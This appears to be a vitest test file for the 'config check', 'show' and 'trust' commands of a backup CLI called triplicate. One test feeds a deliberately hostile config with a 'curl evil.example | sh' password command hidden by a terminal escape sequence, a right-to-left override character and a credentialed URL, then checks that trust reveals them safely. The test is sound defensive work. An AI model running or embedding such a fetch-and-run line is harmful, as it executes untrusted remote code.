import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { text } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { run } from '../../src/app.ts';
import * as schemas from '../../src/json/config-schemas.ts';
import type { CliSurroundings } from '../../src/surroundings.ts';

let home = '';
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'triplicate-config-'));
  await mkdir(join(home, 'clone'));
});
afterEach(() => rm(home, { recursive: true, force: true }));

const nothing = (): Disposable => ({ [Symbol.dispose]: () => undefined });

interface Ended {
  readonly code: number;
  readonly out: string;
  readonly err: string;
}

/** One command line in the folder `clone` of an empty home; the paths of the temporary folder are taken out of what it prints. */
const type = async (...parameters: string[]): Promise<Ended> => {
  const streams = { stdin: new PassThrough(), stdout: new PassThrough(), stderr: new PassThrough() };
  const surroundings: CliSurroundings = {
    ...streams,
    env: {},
    cwd: join(home, 'clone'),
    home,
    platform: process.platform,
    hostname: 'anna',
    userId: process.getuid?.(),
    groupId: process.getgid?.(),
    username: 'anna',
    pid: process.pid,
    threads: 1,
    onStop: nothing,
    onCrash: nothing,
    kill: () => undefined,
  };
  const code = await run(parameters, surroundings);
  streams.stdout.end();
  streams.stderr.end();
  const [out, err] = await Promise.all([text(streams.stdout), text(streams.stderr)]);
  return { code, out: out.replaceAll(home, '~'), err: err.replaceAll(home, '~') };
};

const write = (content: string): Promise<void> => writeFile(join(home, 'clone', 'triplicate.yaml'), content);

const good = `version: 1
pipelines:
  home:
    sources: { docs: { type: files, paths: [~/docs] } }
    encrypt: { password: { command: [pass, show, hunter2] } }
    destinations: { disk: { type: local, path: /disk } }
`;

describe('triplicate config', () => {
  it('check prints every mistake and ends with 2', async () => {
    await write(good.replace('files', 'fils').replace('{ command: [pass, show, hunter2] }', 'hunter2'));
    expect(await type('config', 'check')).toMatchInlineSnapshot(`
      {
        "code": 2,
        "err": "",
        "out": "triplicate.yaml:4:30: unknown source type "fils"
          did you mean "files"?
      triplicate.yaml:5:26: a secret is never written into this file
          name where it is: { env: NAME }, { file: /path }, { command: [program, argument] } or { keychain: name }
      2 mistakes
      ",
      }
    `);
  });

  it('check tells of a destination inside a source', async () => {
    const inside = good.replace('command: [pass, show, hunter2]', 'env: PW').replace('/disk', '"~/docs/[disk]"');
    await mkdir(join(home, 'docs', '[disk]'), { recursive: true });
    await write(inside);
    expect(await type('config', 'check')).toMatchObject({
      code: 0,
      err: 'note: source "docs" leaves out ~/docs/[disk]: destination "disk" stands inside it\n',
    });
    await write(inside.replace('~/docs/[disk]', '~/docs2'));
    expect(await type('config', 'check')).toMatchObject({ code: 0, err: '' });
  });

  it('check says what there is when nothing is wrong', async () => {
    await write(good.replace('command: [pass, show, hunter2]', 'env: PW'));
    expect(await type('config', 'check')).toMatchInlineSnapshot(`
      {
        "code": 0,
        "err": "",
        "out": "triplicate.yaml: no mistake
        home: docs to disk
      ",
      }
    `);
  });

  it('check --json prints each mistake as an object, and a summary', async () => {
    await write(good);
    const { code, out } = await type('config', 'check', '--json');
    const lines = out
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown);
    expect(code).toBe(2);
    expect(z.tuple([schemas.problem, schemas.configSummary]).parse(lines)).toMatchObject([
      { line: 5, column: 28, untrusted: true },
      { trusted: false, origin: 'working-folder', problems: 1 },
    ]);
  });

  it('trust names what it allows, and show then prints what is in force without arguments of commands', async () => {
    await write(good);
    expect((await type('config', 'show')).code).toBe(2);
    expect(await type('config', 'trust')).toMatchObject({
      code: 0,
      out: '~/clone/triplicate.yaml is trusted, until it changes, to run\n  ~/clone/triplicate.yaml:5:28: pipelines.home.encrypt.password.command: pass show hunter2\nthis covers the file and the plugins that it names by their path; a program that it names may change without a new question\n',
    });
    const { code, out } = await type('config', 'show');
    expect(code).toBe(0);
    expect(out).toContain('- compress:\n          algorithm: zstd\n');
    expect(out).not.toContain('hunter2');
    expect(schemas.config.parse(JSON.parse((await type('config', 'show', '--json')).out))).toMatchObject({
      file: '~/clone/triplicate.yaml',
    });
    await type('config', 'trust', '--remove');
    expect((await type('config', 'check')).code).toBe(2);
  });

  it('trust prints the program with its arguments, or the path of the plugin, of all that it allows', async () => {
    await write(`version: 1
plugins: [./evil source.ts, triplicate-dest-tape]
pipelines:
  home:
    sources: { docs: { type: files, paths: [~/docs] } }
    encrypt: { password: { command: [sh, -c, "curl evil.example | sh\\n\\e[2K"] } }
    destinations:
      disk: { type: rest, remote: "gdrive:backups", program: ./rclone }
      web: { type: rest, url: "https://nas.example.org", password: { command: ["https://anna:hunter2@x/y"] } }
    hooks: { before: [touch, ran], after: ["./a b", "", "x\\u202Ey"], timeout: 10m }
`);
    const { code, out } = await type('config', 'trust');
    expect(code).toBe(0);
    const told = out.split('\n').slice(1, -2);
    expect(told.map((line) => line.replace(/^.*yaml:\d+:\d+: /, ''))).toEqual([
      'plugins[0]: "./evil source.ts"',
      'plugins[1]: triplicate-dest-tape',
      String.raw`pipelines.home.encrypt.password.command: sh -c "curl evil.example | sh\n\u001b[2K"`,
      'pipelines.home.destinations.disk.remote: gdrive:backups',
      'pipelines.home.destinations.disk.program: ./rclone',
      'pipelines.home.destinations.web.password.command: https:***@x/y',
      'pipelines.home.hooks.before: touch ran',
      String.raw`pipelines.home.hooks.after: "./a b" "" "x\u{202e}y"`,
    ]);
    const line = schemas.trust.parse(JSON.parse((await type('config', 'trust', '--json')).out));
    expect(line).toMatchObject({ trusted: true, runs: 8 });
    expect(line.code[6]).toEqual({
      line: 10,
      column: 5,
      path: 'pipelines.home.hooks.before',
      command: ['touch', 'ran'],
    });
  });

  it('takes no other word', async () => {
    expect(await type('config', 'chekc')).toMatchObject({ code: 2, out: '' });
  });
});
